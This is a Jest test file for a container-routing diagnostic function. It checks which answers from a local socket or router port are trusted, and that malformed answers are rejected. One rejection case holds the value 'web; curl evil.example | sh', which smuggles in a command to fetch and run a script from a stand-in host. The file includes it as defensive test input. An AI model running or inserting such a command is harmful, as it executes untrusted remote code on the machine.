import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from '@jest/globals'
import { askAbout } from './ask-about.ts'

let folder: string
let servers: Server[]
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'ask-about-'))
  servers = []
})
afterEach(async () => {
  delete process.env['REDIACC_ROUTER']
  await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))))
  rmSync(folder, { recursive: true, force: true })
})

const CONTAINER = {
  id: 'a'.repeat(64),
  image: 'web',
  network: 64,
  daemon: '/tmp/docker-64.sock',
  created: '2026-01-02T03:04:05.000Z',
  state: 'running',
  status: 'Up',
  health: 'none',
  networkMode: 'host',
  presence: 'serving',
  labels: [],
  made: [],
  served: [],
  diagnostics: [],
}

const factsOf = (name: string) => ({
  question: { text: 'web' },
  traefikApi: 'http://127.0.0.1:9000',
  runsForSeconds: 1,
  document: { revision: 1, secondsOld: 1 },
  fetches: {},
  containers: [{ ...CONTAINER, name }],
  routers: [],
  more: 0,
  claims: [],
  daemons: [],
  notices: [],
})

async function answering(at: string | number, status: number, body: object): Promise<Server> {
  const server = createServer((_, response) => response.writeHead(status).end(JSON.stringify(body)))
  servers.push(server)
  await once(typeof at === 'string' ? server.listen(at) : server.listen(at, '127.0.0.1'), 'listening')
  return server
}

const socket = (): string => join(folder, 'control.sock')

async function namePort(status: number, body: object): Promise<void> {
  const server = await answering(0, status, body)
  process.env['REDIACC_ROUTER'] = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

test('the private socket is asked, and its daemons are believed', async () => {
  await answering(socket(), 200, { facts: factsOf('of-the-socket') })
  expect(await askAbout('/explain?about=web', folder)).toEqual({
    facts: factsOf('of-the-socket'),
    traefikApi: 'http://127.0.0.1:9000',
    daemons: ['/tmp/docker-64.sock'],
  })
})

test('on the word of whoever answers at the port nobody is asked: no daemon, and no API', async () => {
  await answering(socket(), 200, { facts: factsOf('of-the-socket') })
  await namePort(200, { facts: factsOf('of-the-port') })
  expect(await askAbout('/explain?about=web', folder)).toEqual({ facts: factsOf('of-the-port'), daemons: [] })
})

test.each([
  ['something else', { hello: 'world' }],
  ['no list of containers', { facts: { ...factsOf('web'), containers: 1 } }],
  ['a name that would be a command', { facts: factsOf('web; curl evil.example | sh') }],
  [
    'a socket that would be one',
    { facts: { ...factsOf('web'), containers: [{ ...CONTAINER, name: 'web', daemon: '/a b' }] } },
  ],
])('whoever answers at the port with %s is no route server', async (_, body) => {
  await namePort(200, body)
  await expect(askAbout('/explain?about=web', folder)).rejects.toThrow(/^Whoever answers there is no route server/)
})
